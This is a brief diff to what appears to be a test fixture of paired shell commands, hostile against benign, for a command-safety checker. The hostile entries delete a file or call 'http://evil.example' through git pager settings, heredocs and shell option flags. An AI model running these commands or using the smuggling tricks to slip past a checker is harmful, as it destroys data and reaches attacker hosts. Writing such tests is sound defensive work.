@@ -20,4 +20,6 @@ PAIRS = [
     ("sh <<'EOF'\n/bin/rm x\nEOF", "sh <<'EOF'\nls\nEOF"),
     ("git -c core.pager='rm x' log", "git log"),
     ("PAGER='curl http://evil.example' git log", "git log --oneline"),
+    ("bash -euo pipefail -c 'rm x'", "bash -euo pipefail -c 'ls'"),
+    ("sh -ex <<< 'curl http://evil.example'", "sh -ex <<< 'ls'"),
 ]
